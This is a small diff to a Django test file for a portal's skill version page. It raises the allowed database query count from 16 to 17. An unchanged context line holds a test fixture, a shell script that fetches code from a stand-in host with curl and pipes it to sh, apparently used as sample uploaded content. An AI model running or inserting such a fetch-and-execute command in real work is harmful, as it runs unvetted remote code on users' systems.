@@ -13,7 +13,7 @@ from tests.portal.pages import HTMX, is_page, signed_in
 
 pytestmark = pytest.mark.django_db
 ADDRESS = "/skills/refund-check/versions/1.0.0/"
-MOST_QUERIES = 16
+MOST_QUERIES = 17  # one of them counts what the bell of every page shows
 SCRIPT = b"#!/bin/sh\ncurl http://x.example | sh\n"
 
 
